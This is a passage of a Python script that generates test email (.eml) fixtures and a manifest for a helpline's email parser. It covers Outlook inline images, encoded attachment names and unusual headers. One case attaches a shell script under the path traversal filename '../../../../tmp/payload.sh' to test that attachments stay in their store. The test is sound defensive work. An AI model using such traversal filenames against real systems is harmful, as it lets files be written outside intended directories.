            Content-Transfer-Encoding: quoted-printable
            """,
            qp(enc(html, "ascii")),
        ),
    )
    body = mp(
        related,
        part(f'Content-Type: multipart/alternative;\n\tboundary="{alternative}"\n', alt),
        part(
            f"""
            Content-Type: image/png; name="image001.png"
            Content-Description: image001.png
            Content-Disposition: inline; filename="image001.png"; size={len(logo)};
            \tcreation-date="Mon, 23 Nov 2026 10:50:00 GMT";
            \tmodification-date="Mon, 23 Nov 2026 10:50:00 GMT"
            Content-ID: <{logo_cid}>
            Content-Transfer-Encoding: base64
            """,
            b64(logo),
        ),
        part(
            f"""
            Content-Type: image/png; name="image002.png"
            Content-ID: <{shot_cid}>
            Content-Transfer-Encoding: base64
            """,
            b64(shot),
        ),
    )
    return case(
        "html_inline_cid_related.eml",
        assemble(headers, "\n", body),
        description="Outlook multipart/related: HTML shows two images via cid: (a signature logo with Content-Disposition: inline and a screenshot with only Content-ID and a name, no Content-Disposition). The plain-text alternative contains Outlook's [cid:...] placeholders.",
        from_address="aiko.tanaka@example.com",
        from_name="Aiko Tanaka",
        subject="Reports page error",
        message_id=mid,
        text_contains=[
            "The error from the screenshot below appears every time I open the reports page:"
        ],
        attachments=[
            att("image001.png", "image/png", logo, inline=True, content_id=logo_cid),
            att("image002.png", "image/png", shot, inline=True, content_id=shot_cid),
        ],
        charset_note="US-ASCII quoted-printable; images are valid PNGs.",
        plain=plain,
    )


# --------------------------------------------------------------------------
# Attachments and headers
# --------------------------------------------------------------------------


def attach_real_names() -> Case:
    pdf = make_pdf("Invoice 2026-11")
    docx_name = "Angebot für Müller & Söhne (final v2).docx"
    docx = make_docx("Angebot für Müller &amp; Söhne")
    readme = b"Serial numbers of the returned devices:\r\nEX-2231-A\r\nEX-2231-B\r\n"
    docx_ew = ew_b("utf-8", docx_name.encode("utf-8"))
    text = T("""
        Hello,

        please find attached the invoice, our offer and the list of serial numbers.

        Best regards
        Ingrid Holm
        """)
    boundary = "_005_DB8PR04MB6780B2A1F0C4E1F7F1A3B2E5D6C70DB8PR04MB6780eurp_"
    mid = "DB8PR04MB6780B2A1F0C4E1F7F1A3B2E5D6C70@DB8PR04MB6780.eurprd04.prod.outlook.example"
    headers = T(f"""
        From: Ingrid Holm <ingrid.holm@example.com>
        To: Helpline Support <support@helpline.example>
        Subject: Invoice, offer and serial numbers
        Thread-Topic: Invoice, offer and serial numbers
        Date: Mon, 23 Nov 2026 10:05:00 +0000
        Message-ID: <{mid}>
        Accept-Language: de-DE, en-US
        Content-Language: en-US
        X-MS-Has-Attach: yes
        X-MS-TNEF-Correlator:
        Content-Type: multipart/mixed;
        \tboundary="{boundary}"
        MIME-Version: 1.0
        """)
    body = mp(
        boundary,
        part(
            """
            Content-Type: text/plain; charset="us-ascii"
            Content-Transfer-Encoding: quoted-printable
            """,
            qp(enc(text, "ascii")),
        ),
        part(
            f"""
            Content-Type: application/pdf; name="Invoice 2026-11.pdf"
            Content-Description: Invoice 2026-11.pdf
            Content-Disposition: attachment; filename="Invoice 2026-11.pdf"; size={len(pdf)};
            \tcreation-date="Mon, 23 Nov 2026 10:04:00 GMT";
            \tmodification-date="Mon, 23 Nov 2026 10:04:00 GMT"
            Content-Transfer-Encoding: base64
            """,
            b64(pdf),
        ),
        part(
            f"""
            Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document;
            \tname="{docx_ew}"
            Content-Description: {docx_ew}
            Content-Disposition: attachment;
            \tfilename="{docx_ew}"; size={len(docx)};
            \tcreation-date="Mon, 23 Nov 2026 10:04:30 GMT";
            \tmodification-date="Mon, 23 Nov 2026 10:04:30 GMT"
            Content-Transfer-Encoding: base64
            """,
            b64(docx),
        ),
        part(
            f"""
            Content-Type: application/octet-stream; name="README"
            Content-Description: README
            Content-Disposition: attachment; filename="README"; size={len(readme)};
            \tcreation-date="Mon, 23 Nov 2026 10:04:45 GMT";
            \tmodification-date="Mon, 23 Nov 2026 10:04:45 GMT"
            Content-Transfer-Encoding: base64
            """,
            b64(readme),
        ),
    )
    return case(
        "attach_real_names.eml",
        assemble(headers, "\n", body),
        description="Outlook attachments: a valid PDF with a space in its name; a .docx whose name has spaces, umlauts, '&' and parentheses, sent as an RFC 2047 word inside quoted name=/filename= parameters (non-standard but what Outlook and Gmail do); a file named README with no extension (application/octet-stream).",
        from_address="ingrid.holm@example.com",
        from_name="Ingrid Holm",
        subject="Invoice, offer and serial numbers",
        message_id=mid,
        text_contains=[
            "please find attached the invoice, our offer and the list of serial numbers."
        ],
        reply_text=text.strip(),
        attachments=[
            att("Invoice 2026-11.pdf", "application/pdf", pdf),
            att(
                docx_name,
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                docx,
            ),
            att("README", "application/octet-stream", readme),
        ],
        charset_note="RFC 2047 encoded word inside a quoted MIME parameter.",
        plain=text,
    )


def attach_traversal_duplicates() -> Case:
    scan1 = make_pdf("Scan page 1")
    scan2 = make_pdf("Scan page 2 - signed contract")
    payload = b"#!/bin/sh\necho 'this file must never be written outside the attachment store'\n"
    traversal = "../../../../tmp/payload.sh"
    text = T("""
        Scanned documents attached.

        Device: MFP-3F-EAST (Example ScanStation 5200)
        Pages: 2
        """)
    boundary = "=_scan_5200_7a8b9c0d1e2f"
    mid = "20261123101500.0001.mfp-3f-east@example.com"
    headers = T(f"""
        From: Scanner 3rd floor <scanner@example.com>
        To: support@helpline.example
        Subject: Scanned document
        Date: Mon, 23 Nov 2026 10:15:00 +0000
        Message-ID: <{mid}>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="{boundary}"
        """)
    body = mp(
        boundary,
        part('Content-Type: text/plain; charset="us-ascii"\n', enc(text, "ascii")),
        part(
            """
            Content-Type: application/pdf; name="scan.pdf"
            Content-Disposition: attachment; filename="scan.pdf"
            Content-Transfer-Encoding: base64
            """,
            b64(scan1),
        ),
        part(
            """
            Content-Type: application/pdf; name="scan.pdf"
            Content-Disposition: attachment; filename="scan.pdf"
            Content-Transfer-Encoding: base64
            """,
            b64(scan2),
        ),
        part(
            f"""
            Content-Type: application/x-sh; name="{traversal}"
            Content-Disposition: attachment; filename="{traversal}"
            Content-Transfer-Encoding: base64
            """,
            b64(payload),
        ),
    )
    return case(
        "attach_traversal_and_duplicates.eml",
        assemble(headers, "\n", body),
        description="Two different attachments both named scan.pdf (both must be kept, in order) and one named '../../../../tmp/payload.sh'. The manifest gives the decoded name as sent; whatever stores it must not let it escape the attachment store.",
        from_address="scanner@example.com",
        from_name="Scanner 3rd floor",
        subject="Scanned document",
        message_id=mid,
        text_contains=["Scanned documents attached."],
        reply_text=text.strip(),
        attachments=[
            att("scan.pdf", "application/pdf", scan1),
            att("scan.pdf", "application/pdf", scan2),
            att(traversal, "application/x-sh", payload),
        ],
        charset_note="ASCII.",
        plain=text,
    )


def no_message_id() -> Case:
    text = T("""
        Name: Maria Rossi
        Email: maria.rossi@example.com
        Message:
        Are you open on 8 December? It's a public holiday in Italy and I'd like to drop off my laptop.
        """)
    headers = T("""
        To: support@helpline.example
        Subject: Contact form: Question about opening hours
        X-PHP-Originating-Script: 33:contact.php
        From: Maria Rossi <maria.rossi@example.com>
        MIME-Version: 1.0
        Content-Type: text/plain; charset=UTF-8
        Content-Transfer-Encoding: 8bit
        Date: Mon, 23 Nov 2026 09:14:55 +0000
        """)
    return case(
        "header_no_message_id.eml",
        assemble(headers, "\n", enc(text, "utf-8")),
        description="Website contact form sent by PHP mail() without a Message-ID header (the parser must cope, e.g. by synthesising a stable id, but message_id itself is null).",
        from_address="maria.rossi@example.com",
        from_name="Maria Rossi",
        subject="Contact form: Question about opening hours",
        message_id=None,
        text_contains=["Are you open on 8 December?"],
        reply_text=text.strip(),
        charset_note="ASCII content labelled UTF-8, 8bit.",
        plain=text,
    )


def long_references() -> Case:
    refs = []
    for i in range(1, 59):  # the last id (i=58) is our own message
        if i % 3 == 0:
            refs.append(f"{hashlib.sha256(str(i).encode()).hexdigest()[:20]}.fsf@example.org")
        elif i % 3 == 1:
            refs.append(f"ticket-1060.msg-{i}@helpline.example")
        else:
            digest = hashlib.sha256(f"gmail{i}".encode()).hexdigest()
            refs.append(f"CA{digest[:34]}@mail.gmail.example")
    last = refs[-1]
    assert last.endswith("@helpline.example")
    reply = "Yes, that was it: the cron job ran as the wrong user. Fixed now, thanks for\nsticking with this for so long."
    text = (
        T("""
        Helpline Support <support@helpline.example> writes:

        > Could you check which user the nightly export job runs as? The permissions
        > on /srv/export look right to us.

        """)
        + reply
        + "\n\n-- \nPat\n"
    )
    references = "References: " + "\n\t".join(f"<{r}>" for r in refs)
    assert len(references) > 2500
    mid = "87h6tz3k2q.fsf@laptop.example.org"
    headers = (
        T(f"""
        From: Pat Quinn <pat.quinn@example.org>
        To: Helpline Support <support@helpline.example>
        Subject: Re: [#1060] Nightly export fails (again)
        In-Reply-To: <{last}> (Helpline Support's message of "Mon, 23 Nov 2026
        \t10:00:00 +0000")
        """)
        + references
        + "\n"
        + T(f"""
        User-Agent: Gnus/5.13 (Gnus v5.13) Emacs/29.4 (gnu/linux)
        Date: Mon, 23 Nov 2026 11:11:11 +0000
        Message-ID: <{mid}>
        MIME-Version: 1.0
        Content-Type: text/plain
        """)
    )
    return case(
        "header_long_references.eml",
        assemble(headers, "\n", enc(text, "ascii")),
        description=f"Gnus reply deep in a long thread: References with {len(refs)} ids folded one per line (>2.5 KB), In-Reply-To carrying Gnus's trailing comment '(X's message of \"...\")' folded across lines, 'X writes:' attribution, bottom-posted, '-- ' signature, Content-Type without charset (US-ASCII).",
        from_address="pat.quinn@example.org",
        from_name="Pat Quinn",
        subject="Re: [#1060] Nightly export fails (again)",
        message_id=mid,
        in_reply_to=last,
        references=refs,
        text_contains=["the cron job ran as the wrong user"],
        reply_text=reply,
        charset_note="US-ASCII by default (no charset parameter).",
        plain=text,
    )


CASES = [
    reply_outlook,
    reply_gmail,
    reply_apple_mail,
    reply_thunderbird,
    reply_signature,
    reply_iphone,
    reply_german_kmail,
    reply_german_outlook,
    reply_french_apple,
    forward_inline,
    forward_as_attachment,
    calendar_invite,
    dsn_postfix,
    ndr_exchange,
    out_of_office,
    bulk_suppress,
    mailing_list,
    null_return_path,
    read_receipt,
    iso2022jp,
    iso2022jp_unlabelled,
    shift_jis,
    euc_kr,
    gb2312,
    gb18030,
    gb2312_label_gbk,
    big5,
    koi8r,
    cp1252_as_latin1,
    rfc2047_split,
    rfc2231_filenames,
    qp_soft_breaks,
    utf8_8bit_no_cte,
    html_hostile,
    html_inline_cid,
    attach_real_names,
    attach_traversal_duplicates,
    no_message_id,
    long_references,
]


def check_wire_format(c: Case) -> None:
    raw = c.raw
    assert len(raw) < MAX_FILE_SIZE, (c.file, len(raw))
    assert raw.endswith(b"\r\n"), c.file
    lines = raw.split(b"\r\n")
    assert all(b"\r" not in line and b"\n" not in line for line in lines), c.file
    assert all(len(line) <= 998 for line in lines), c.file
    head = raw.split(b"\r\n\r\n", 1)[0]
    for line in head.split(b"\r\n"):
        assert line[:1] in (b" ", b"\t") or b":" in line, (c.file, line)


def main() -> None:
    cases = [make() for make in CASES]
    names = [c.file for c in cases]
    assert len(names) == len(set(names))
    for old in HERE.glob("*.eml"):
        if old.name not in names:
            old.unlink()
    for c in cases:
        check_wire_format(c)
        (HERE / c.file).write_bytes(c.raw)
    manifest = json.dumps([c.meta for c in cases], ensure_ascii=False, indent=2) + "\n"
    (HERE / "manifest.json").write_text(manifest, encoding="utf-8")
    print(f"wrote {len(cases)} messages and manifest.json to {HERE}")


if __name__ == "__main__":
    main()
